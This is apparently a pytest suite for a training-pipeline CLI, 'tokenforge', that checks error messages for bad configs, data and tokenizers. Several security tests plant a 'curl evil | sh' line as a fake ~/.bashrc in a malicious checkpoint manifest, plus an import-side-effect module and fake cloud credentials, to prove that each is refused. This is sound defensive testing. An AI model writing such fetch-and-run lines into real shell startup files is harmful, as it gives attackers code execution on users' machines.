"""Bad input: each case is one clear line on stderr and exit code 2, before any Ray work."""

import json
import re
import shutil
import subprocess
import sys

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from transformers import GPT2Config

from pipeline.cli import main, parse

# a line Ray's log monitor forwards from a worker, "(Learner pid=24032) ...": these arrive asynchronously and
# can land in the next test's capture (an actor a previous test let fail); they are not tokenforge's output
RAY_WORKER_LINE = re.compile(r"^(\x1b\[\d+m)?\(\S+ pid=\d+")


def run_cli(argv, capsys) -> str:
    with pytest.raises(SystemExit) as exit_info:
        main(argv)
    assert exit_info.value.code == 2
    err = "\n".join(line for line in capsys.readouterr().err.splitlines() if not RAY_WORKER_LINE.match(line)).strip()
    assert err.count("\n") == 0 and err.startswith("tokenforge: error: "), err
    return err


def jsonl(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return str(path)


@pytest.fixture
def model_copy(tmp_path, builtin_model_path):
    return shutil.copytree(builtin_model_path, tmp_path / "model")


def test_unknown_and_mistyped_keys(capsys, tmp_path):
    assert "'trainer.totl_steps': unknown config key" in run_cli(["train", "trainer.totl_steps=3"], capsys)
    assert "'rollout.group_size': Input should be a valid integer" in run_cli(
        ["train", "rollout.group_size=big"], capsys
    )


def test_zero_workers(capsys):
    assert "'rollout.num_workers': Input should be greater than or equal to 1" in run_cli(
        ["train", "rollout.num_workers=0"], capsys
    )
    assert "'reward.num_workers'" in run_cli(["train", "reward.num_workers=0"], capsys)


def test_missing_model_path(capsys, tmp_path):
    err = run_cli(["train", f"model.path={tmp_path / 'missing'}", f"output_dir={tmp_path / 'out'}"], capsys)
    assert "is not a local HF model directory" in err and "missing" in err


def test_a_critic_model_path_that_is_missing_or_has_too_small_a_vocabulary(capsys, tmp_path):
    gae = ["algorithm.estimator=gae", f"output_dir={tmp_path / 'out'}"]
    err = run_cli(["train", *gae, f"critic.model_path={tmp_path / 'missing'}"], capsys)
    assert "critic.model_path" in err and "is not a local HF model directory" in err and "missing" in err
    GPT2Config(vocab_size=8).save_pretrained(tmp_path / "small")
    err = run_cli(["train", *gae, f"critic.model_path={tmp_path / 'small'}"], capsys)
    assert "config key 'critic.model_path': its vocabulary (8 ids) is smaller than the" in err


def test_dataset_missing_or_without_prompt_or_with_empty_prompt(capsys, tmp_path):
    out = f"output_dir={tmp_path / 'out'}"
    err = run_cli(["train", f"data.train_file={tmp_path / 'nope.jsonl'}", out], capsys)
    assert "data.train_file: '" in err and "nope.jsonl' does not exist" in err
    no_prompt = jsonl(tmp_path / "q.jsonl", [{"question": "1+1=", "answer": "2"}])
    assert "has no `prompt` field (fields: question, answer)" in run_cli(
        ["train", f"data.train_file={no_prompt}", out], capsys
    )
    empty = jsonl(tmp_path / "e.jsonl", [{"prompt": "1+1=", "answer": "2"}, {"prompt": " ", "answer": "0"}])
    assert "e.jsonl' row 1: the prompt is empty" in run_cli(["train", f"data.eval_file={empty}", out], capsys)
    messages = pa.list_(pa.struct([("role", pa.string()), ("content", pa.string())]))
    rows = [
        {"prompt": [{"role": "user", "content": "1+1="}], "answer": "2"},
        {"prompt": [{"role": "user", "content": None}], "answer": "0"},
    ]
    pq.write_table(
        pa.Table.from_pylist(rows, pa.schema([("prompt", messages), ("answer", pa.string())])), tmp_path / "c.parquet"
    )
    err = run_cli(["train", f"data.eval_file={tmp_path / 'c.parquet'}", out], capsys)
    assert "c.parquet' row 1: the prompt message 0 is not {role: str, content: str}" in err
    chat = jsonl(tmp_path / "chat.jsonl", [{"prompt": [{"role": "user", "content": "1+1="}], "answer": "2"}])
    err = run_cli(["train", f"data.eval_file={chat}", out], capsys)  # the char-level model has no chat template
    assert (
        "data.eval_file: a prompt is a conversation (a list of messages) but the tokenizer has no chat template; "
        "set model.chat_template" in err
    )
    no_answer = jsonl(tmp_path / "a.jsonl", [{"prompt": "1+1="}])
    assert "need fields ['answer']" in run_cli(["train", f"data.train_file={no_answer}", out], capsys)


def test_prompt_longer_than_context(capsys, tmp_path):
    long = jsonl(
        tmp_path / "long.jsonl", [{"prompt": "1+1=", "answer": "2"}, {"prompt": "1" * 30 + "+1=", "answer": "2"}]
    )
    err = run_cli(["train", f"data.train_file={long}", f"output_dir={tmp_path / 'out'}"], capsys)
    assert "prompt 1 has 33 tokens; with rollout.max_new_tokens=8 it exceeds the model context of 32 tokens" in err


def without_token(model_dir, role: str):
    config_file = model_dir / "tokenizer_config.json"
    tokenizer_config = json.loads(config_file.read_text())
    tokenizer_config.pop(f"{role}_token")
    config_file.write_text(json.dumps(tokenizer_config))


def test_tokenizer_without_eos(capsys, tmp_path, model_copy):
    without_token(model_copy, "eos")
    err = run_cli(["train", f"model.path={model_copy}", f"output_dir={tmp_path / 'out'}"], capsys)
    assert "has no eos token; set `eos_token`" in err


def test_tokenizer_without_pad_pads_with_eos(model_copy, caplog):
    from pipeline.models.hf import load_tokenizer

    without_token(model_copy, "pad")
    with caplog.at_level("WARNING", logger="tokenforge"):
        tokenizer = load_tokenizer(model_copy)
        load_tokenizer(model_copy)
    assert tokenizer.pad_token_id == tokenizer.eos_token_id
    assert [r.getMessage() for r in caplog.records].count(
        f"tokenizer in {str(model_copy)!r} has no pad token: padding with its eos token '<eos>'"
    ) == 1  # logged once


def test_resume_without_a_run(capsys, tmp_path):
    assert "config.yaml' does not exist; is" in run_cli(["train", "--resume", str(tmp_path)], capsys)


def test_real_process_prints_no_traceback(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "pipeline.cli", "train", "rollout.num_workers=0"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.strip().startswith("tokenforge: error: config key 'rollout.num_workers'")


def test_resources_the_cluster_can_never_provide_fail_fast(ray_cluster, capsys, tmp_path):
    out = f"output_dir={tmp_path / 'out'}"
    err = run_cli(["train", "learner.num_gpus=1", out], capsys)
    assert "the actors need 1 GPU in total but the Ray cluster has 0" in err
    err = run_cli(["train", "learner.num_gpus=8", out], capsys)
    assert "'learner.num_gpus': a learner rank trains on one device, so 8 GPUs would be reserved and sit idle" in err
    err = run_cli(["train", "rollout.resources_per_worker={tpu_pod: 1}", out], capsys)
    assert "the actors need 1 tpu_pod in total but the Ray cluster has 0" in err


def test_an_actor_that_cannot_start_is_one_line_without_restarts(ray_cluster, capsys, tmp_path):
    """Config only an actor can check (LoRA target modules the model lacks) fails in the learner's
    constructor: one line with the constructor's error, and no pipeline restarts (none could help)."""
    with pytest.raises(SystemExit) as exit_info:
        main(
            [
                "train",
                "task=chat_addition",
                "model.lora={r: 4, alpha: 8, target_modules: [no_such_proj]}",
                f"output_dir={tmp_path / 'out'}",
            ]
        )
    captured = capsys.readouterr()
    last = captured.err.strip().splitlines()[-1]  # (Ray may forward the worker's own log lines before it)
    assert (
        exit_info.value.code == 2
        and last.startswith("tokenforge: error: learner could not start: ")
        and "no_such_proj" in last
    )
    assert "failure 1 of at most" not in captured.out


def test_reward_component_needs_a_column_the_data_lacks(capsys, tmp_path):
    err = run_cli(["train", "reward.weights={chrf: 1.0}", f"output_dir={tmp_path / 'out'}"], capsys)
    assert "data.train_file: the reward components need fields ['reference'], missing from the file" in err


def test_debug_shows_the_traceback(capsys, tmp_path):
    from pipeline.errors import ConfigError

    with pytest.raises(ConfigError, match="'rollout.num_workers'"):
        main(["train", "--debug", "rollout.num_workers=0"])


def test_help_config_lists_every_key_with_its_default(capsys):
    from pipeline.config import describe_fields

    main(["train", "--help-config"])
    lines = capsys.readouterr().out.splitlines()
    assert lines == describe_fields() and len(lines) > 60
    assert "learner.max_nonfinite_steps = 3  # Stop the run after this many consecutive steps" in "\n".join(lines)


def test_eval_data_with_dropped_samples_leaves_them_out_of_the_means(capsys, tmp_path, builtin_model_path):
    """`tokenforge eval --data`: a component whose on_error is `drop` removes its failing samples from every
    eval mean; the shipped model solves one-digit sums, and its answer 7 to 3+4= (marked wrong here) is dropped."""
    data = jsonl(
        tmp_path / "eval.jsonl",
        [{"prompt": "2+2=", "answer": "4"}, {"prompt": "1+5=", "answer": "6"}, {"prompt": "3+4=", "answer": "not 7"}],
    )
    fns = f"{__file__.rsplit('/', 1)[0]}/reward_fns.py"
    main(
        [
            "eval",
            builtin_model_path,
            f"reward.components.sevens={{type: python, function: '{fns}:fail_on_seven', on_error: drop}}",
            "trainer.eval_metrics=[exact_match, sevens]",
            "reward.weights={exact_match: 1.0}",
            "--data",
            data,
            "--json",
        ]
    )
    result = json.loads(capsys.readouterr().out)
    assert result["eval_samples"] == 3
    assert result["eval/exact_match"] == 1.0 and result["eval/sevens"] == 1.0  # over the 2 samples kept
    main(["eval", builtin_model_path, "--data", data])  # without the dropping component: 2 of 3
    assert capsys.readouterr().out == (
        f"tokenforge: evaluated {builtin_model_path} on 3 samples of {data} (eval/exact_match 0.6667); "
        f"next: tokenforge train model.path={builtin_model_path}\n"
    )


@pytest.mark.parametrize(
    ("example", "task", "train_rows", "eval_rows", "column"),
    [
        ("words", "words", 800, 200, "reference"),
        ("reverse", "reverse", 9500, 500, "answer"),
        ("summarize", "summarize", 9500, 500, "reference"),
        ("chat_addition", "chat_addition", 9000, 1000, "answer"),
        ("captioning", "captioning", 2800, 200, "image"),
    ],
)
def test_example_configs_are_valid_and_their_inputs_and_models_load(example, task, train_rows, eval_rows, column):
    from pipeline.config import load_config
    from pipeline.data.inputs import load_inputs, with_builtin_defaults
    from pipeline.models.hf import load_tokenizer

    config = with_builtin_defaults(load_config(f"{__file__.rsplit('/', 2)[0]}/examples/{example}.yaml"))
    train_prompts, eval_prompts = load_inputs(config)
    assert config.task == task and config.model.path.endswith(f"assets/{task}/model")
    assert (
        train_prompts.num_rows == train_rows
        and eval_prompts.num_rows == eval_rows
        and column in eval_prompts.column_names
    )
    assert load_tokenizer(config.model.path).eos_token_id is not None


def test_a_run_config_that_would_run_code_needs_trust_run_config(capsys, tmp_path):
    from pipeline.config import config_to_yaml, load_config

    fns = f"{__file__.rsplit('/', 1)[0]}/reward_fns.py"
    run = tmp_path / "run"
    run.mkdir()
    config = load_config(
        overrides=[
            f"reward.components.mine={{type: python, function: '{fns}:completion_length'}}",
            "reward.weights.mine=1",
            "model.trust_remote_code=true",
        ]
    )
    (run / "config.yaml").write_text(config_to_yaml(config))
    for command in (["eval", str(run)], ["train", "--resume", str(run)]):
        err = run_cli(command, capsys)
        assert "config.yaml enables model.trust_remote_code, reward.components.mine (python function" in err
        assert "pass --trust-run-config if you trust this run directory" in err
    # trusted, it goes on (to the next check: this run has no checkpoint yet)
    assert "is a run without a published checkpoint" in run_cli(["eval", str(run), "--trust-run-config"], capsys)


def test_overrides_may_follow_options(capsys):
    """`tokenforge eval MODEL --data FILE key=value`, as a user writes it: the override is kept, in order;
    an unknown option is still refused."""
    assert parse(["eval", "model", "a.b=1", "--data", "f.jsonl", "c.d=2"]).overrides == ["a.b=1", "c.d=2"]
    with pytest.raises(SystemExit) as stop:
        parse(["eval", "model", "--data", "f.jsonl", "--bogus"])
    assert stop.value.code == 2 and "unrecognized arguments: --bogus" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        parse(["export", "checkpoint", "out", "x=1"])  # a command without overrides


def test_a_checkpoint_manifest_cannot_write_outside_the_checkpoint(capsys, tmp_path):
    """A run directory from someone else: its newest checkpoint's manifest lists an absolute path (and holds the file
    where that name leads), which a download trusting the manifest would write over. One line, nothing written."""
    from pipeline import storage as store

    victim = tmp_path / "home" / ".bashrc"
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text("{}\n")  # the defaults: nothing that needs --trust-run-config
    step = run / store.checkpoint_dir(1)
    (step / str(victim).lstrip("/")).parent.mkdir(parents=True)
    (step / str(victim).lstrip("/")).write_text("curl evil | sh\n")
    entry = {"size": 15, "sha256": store.sha256_bytes(b"curl evil | sh\n")}
    (step / store.MANIFEST).write_text(json.dumps({"step": 1, "files": {str(victim): entry}}))
    for command in (["eval", str(run)], ["eval", f"file://{run}"], ["eval", str(run), "--trust-run-config"]):
        err = run_cli(command, capsys)
        assert f"MANIFEST.json lists {str(victim)!r}, which is not a file inside the checkpoint" in err
        assert not victim.exists()


def test_a_run_configs_python_reward_is_not_imported_before_it_is_trusted(capsys, tmp_path):
    """Validating a python reward component imports its module: a run directory's config.yaml is checked for code
    before that, so the module's top-level code never runs without --trust-run-config."""
    marker = tmp_path / "ran"
    module = tmp_path / "evil.py"
    module.write_text(
        f"open({str(marker)!r}, 'w').close()\n\ndef reward(completions, **_):\n    return [0.0] * len(completions)\n"
    )
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text(
        yaml.safe_dump(
            {
                "reward": {
                    "weights": {"mine": 1.0},
                    "components": {"mine": {"type": "python", "function": f"{module}:reward"}},
                }
            }
        )
    )
    for command in (["eval", str(run)], ["train", "--resume", str(run)]):
        err = run_cli(command, capsys)
        assert f"reward.components.mine (python function {module}:reward)" in err and "pass --trust-run-config" in err
        assert not marker.exists()
    # trusted, the pre-flight import runs it (and the command goes on: this run has no checkpoint)
    assert "is a run without a published checkpoint" in run_cli(["eval", str(run), "--trust-run-config"], capsys)
    assert marker.exists()


def test_vllm_engine_kwargs_that_may_load_code_need_trust(capsys, tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    kwargs = {"trust_remote_code": True, "worker_extension_cls": "mine.Extension", "block_size": 32}
    (run / "config.yaml").write_text(yaml.safe_dump({"rollout": {"vllm": {"engine_kwargs": kwargs}}}))
    err = run_cli(["eval", str(run)], capsys)
    assert (
        "enables rollout.vllm.engine_kwargs.trust_remote_code, rollout.vllm.engine_kwargs.worker_extension_cls:" in err
    )


def test_a_run_configs_ray_address_needs_trust_unless_the_user_sets_it(capsys, tmp_path):
    """A run directory's ray.address would get the user's Ray token and have its replies unpickled by the driver:
    `--resume` asks for trust, unless the user names the address (or null) on the command line."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text(yaml.safe_dump({"ray": {"address": "127.0.0.1:1"}}))
    err = run_cli(["train", "--resume", str(run)], capsys)
    assert "enables ray.address (joins the cluster at '127.0.0.1:1')" in err and "pass --trust-run-config" in err
    err = run_cli(["eval", str(run), "ray.address=null"], capsys)  # the user's own choice: no trust needed
    assert "--trust-run-config" not in err and "is a run without a published checkpoint" in err


SECRET = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYhunter2"  # with a '/', as AWS secret keys may have


@pytest.mark.parametrize(
    "command",
    [
        ["train", f"storage.uri=s3://AKIAEXAMPLE:{SECRET}@bucket/runs/x?region=us-east-1"],
        ["train", "storage.uri=s3://AKIAEXAMPLE:hunter2@bucket/runs/x"],
        ["train", "--resume", f"s3://AKIAEXAMPLE:{SECRET}@bucket/runs/x"],
        ["eval", "s3://AKIAEXAMPLE:hunter2@bucket/runs/x"],
        ["report", "gs://someone:hunter2@bucket/runs/x"],
        ["tune", "--resume", "s3://AKIAEXAMPLE:hunter2@bucket/experiments/x", "--trust-run-config"],
    ],
)
def test_credentials_in_a_storage_uri_are_refused_without_echoing_them(capsys, tmp_path, monkeypatch, command):
    """pyarrow takes s3://KEY:hunter2@bucket/...; tokenforge would print the URI in errors and the --resume hint and
    store it in config.yaml, W&B, MLflow and the Tune spec. Refused before anything is written, the secret never
    shown."""
    monkeypatch.chdir(tmp_path)
    err = run_cli(
        [*command, f"output_dir={tmp_path / 'out'}"]
        if command[0] == "train" and "--resume" not in command
        else command,
        capsys,
    )
    assert "holds credentials (user:secret@)" in err and "AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY" in err
    assert "GOOGLE_APPLICATION_CREDENTIALS" in err and "***@bucket/" in err
    assert "hunter2" not in err and "hunter2" not in capsys.readouterr().out
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert not any("hunter2" in p.read_text(errors="ignore") for p in written), written


def test_credentials_in_a_tune_specs_storage_path_are_refused(capsys, tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        yaml.safe_dump(
            {
                "search": {"learner.lr": {"strategy": "choice", "values": [1e-3]}},
                "tune": {"storage_path": "s3://AKIAEXAMPLE:hunter2@bucket/tune"},
            }
        )
    )
    err = run_cli(["tune", str(spec)], capsys)
    assert err.startswith(
        "tokenforge: error: tune spec key 'tune.storage_path': the URI 's3://***@bucket/tune' holds credentials"
    )
    assert "hunter2" not in err


def test_broken_yaml_names_the_file_and_line(capsys, tmp_path):
    """A -c file, a tune spec and a run directory's config.yaml with a YAML syntax error: one line with the
    file, line and column, for train -c, tune, eval RUN and train --resume RUN."""
    broken = "trainer:\n  total_steps: 3\n  lr: [1e-4\n"
    config = tmp_path / "bad.yaml"
    config.write_text(broken)
    err = run_cli(["train", "-c", str(config)], capsys)
    assert f"config file {str(config)!r} line 4, column 1: not valid YAML (" in err and "fix the YAML there" in err
    assert f"tune spec {str(config)!r} line 4, column 1: not valid YAML" in run_cli(["tune", str(config)], capsys)
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text(broken)
    for command in (["eval", str(run)], ["train", "--resume", str(run)]):
        assert "config.yaml' line 4, column 1: not valid YAML" in run_cli(command, capsys)


def test_stop_token_ids_outside_the_vocabulary(capsys, tmp_path):
    err = run_cli(["train", "rollout.stop_token_ids=[3, 100000, -1]", f"output_dir={tmp_path / 'out'}"], capsys)
    assert "'rollout.stop_token_ids': [100000, -1] outside the tokenizer's vocabulary (ids 0.." in err


def test_eval_of_a_model_directory_names_its_data_and_refuses_data_that_cannot_fit(capsys, builtin_model_path):
    """A plain model directory without --data gets the built-in eval set: the output names it, and a chat model
    (the shipped chat_addition one) is refused on its plain-text prompts instead of scoring 0."""
    from pipeline.models.hf import ASSETS, BUILTIN_EVAL

    chat_model = str(ASSETS / "chat_addition" / "model")
    err = run_cli(["eval", chat_model], capsys)
    assert (
        f"{chat_model!r} is a chat model (its tokenizer has a chat template) but the default eval set "
        f"{str(BUILTIN_EVAL)!r}" in err
    )
    assert "pass --data FILE with conversation prompts" in err
    main(["eval", chat_model, "task=chat_addition", "data.max_eval_samples=4"])  # the task it was made for
    assert f"on 4 samples of {ASSETS / 'chat_addition' / 'eval.jsonl'} (eval/exact_match" in capsys.readouterr().out
    main(["eval", builtin_model_path, "data.max_eval_samples=4"])
    assert f"on 4 samples of {BUILTIN_EVAL} (eval/exact_match" in capsys.readouterr().out


def test_a_model_without_tokenizer_files_or_needing_its_own_code(capsys, tmp_path, model_copy):
    out = f"output_dir={tmp_path / 'out'}"
    custom = shutil.copytree(model_copy, tmp_path / "custom")
    for name in ("tokenizer.json", "tokenizer_config.json"):  # transformers would build an empty tokenizer silently
        (model_copy / name).unlink()
    err = run_cli(["train", f"model.path={model_copy}", out], capsys)
    assert (
        f"{str(model_copy)!r} holds no tokenizer (none of tokenizer.json, " in err
        and "tokenizer.save_pretrained(path)" in err
    )
    config = json.loads((custom / "config.json").read_text())
    config.update(model_type="tfcustom", auto_map={"AutoConfig": "configuration_tf.TfConfig"})
    (custom / "config.json").write_text(json.dumps(config))
    err = run_cli(["train", f"model.path={custom}", out], capsys)
    assert (
        f"{str(custom)!r} needs its own Python code to load (auto_map in its config); if you trust that code, set"
        in err
    )
    assert "(model.trust_remote_code, or the reward component's trust_remote_code option)" in err


def test_a_chat_template_that_is_not_valid_jinja(capsys, tmp_path):
    template = tmp_path / "chat.jinja"
    template.write_text("{% for message in messages %}{{ message.content }\n{% endfor %}")
    chat = jsonl(tmp_path / "chat.jsonl", [{"prompt": [{"role": "user", "content": "1+1="}], "answer": "2"}])
    err = run_cli(
        ["train", f"model.chat_template={template}", f"data.eval_file={chat}", f"output_dir={tmp_path / 'out'}"], capsys
    )
    assert (
        "data.eval_file: the chat template fails (line 1): TemplateSyntaxError: " in err
        and "fix model.chat_template's file" in err
    )


def test_resume_on_changed_data_is_refused_naming_the_file(capsys, tmp_path):
    """A run records its prompts' fingerprints when it starts; `--resume` on other prompts in the same file stops
    (before Ray) naming the file; the same prompts resume."""
    from pipeline.config import config_to_yaml, load_config
    from pipeline.data.inputs import DATA_FINGERPRINT, check_data_unchanged, load_inputs, with_builtin_defaults
    from pipeline.storage import Storage

    train_file = jsonl(tmp_path / "train.jsonl", [{"prompt": "1+1=", "answer": "2"}, {"prompt": "2+2=", "answer": "4"}])
    run = tmp_path / "run"
    run.mkdir()
    config = with_builtin_defaults(load_config(overrides=[f"data.train_file={train_file}", f"output_dir={run}"]))
    (run / "config.yaml").write_text(config_to_yaml(config))
    check_data_unchanged(Storage(str(run)), config, *load_inputs(config), resume=False)  # as a new run does
    assert (run / DATA_FINGERPRINT).is_file()
    check_data_unchanged(Storage(str(run)), config, *load_inputs(config), resume=True)  # the same prompts
    jsonl(tmp_path / "train.jsonl", [{"prompt": "1+1=", "answer": "2"}, {"prompt": "3+3=", "answer": "6"}])
    err = run_cli(["train", "--resume", str(run)], capsys)
    assert (
        f"--resume: data.train_file {train_file!r} holds other prompts than the run started on "
        f"(fingerprints in {run / DATA_FINGERPRINT})" in err
    )
    assert f"delete {DATA_FINGERPRINT} to go on with the new data" in err


def test_a_corrupt_line_inside_metrics_jsonl_is_named(capsys, tmp_path):
    """A torn last line is a kill mid-write (dropped); a bad line with records after it is damage: one line
    naming the file and line, so the history after it is not cut silently."""
    from pipeline.outputs.metrics_log import read_metrics
    from pipeline.storage import Storage

    (tmp_path / "metrics.jsonl").write_text('{"step": 0}\n{"step": 1}\n{"step": 2, "reward/to')
    assert read_metrics(Storage(str(tmp_path))) == [{"step": 0}, {"step": 1}]
    (tmp_path / "metrics.jsonl").write_text('{"step": 0}\n{"step": 1, "x\x00\n{"step": 2}\n{"step": 3}\n')
    (tmp_path / "config.yaml").write_text("{}\n")
    err = run_cli(["report", str(tmp_path)], capsys)
    assert (
        f"{tmp_path / 'metrics.jsonl'} line 2 is not valid JSON, with 2 lines after it; repair or delete that line"
        in err
    )
